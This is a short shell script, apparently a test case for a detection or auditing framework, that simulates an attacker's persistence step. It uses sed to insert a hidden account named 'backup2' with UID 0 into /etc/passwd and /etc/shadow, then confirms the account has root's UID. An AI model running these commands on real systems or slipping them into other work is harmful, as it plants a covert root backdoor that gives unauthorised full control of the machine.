#!/bin/sh
. /opt/case/case.sh

sed -i '/^games:/i backup2:x:0:0::/root:/bin/bash' /etc/passwd
sed -i '/^games:/i backup2:$1$x$0123456789012345678901:19700:0:99999:7:::' /etc/shadow
test "$(id -u backup2)" = 0
took_place
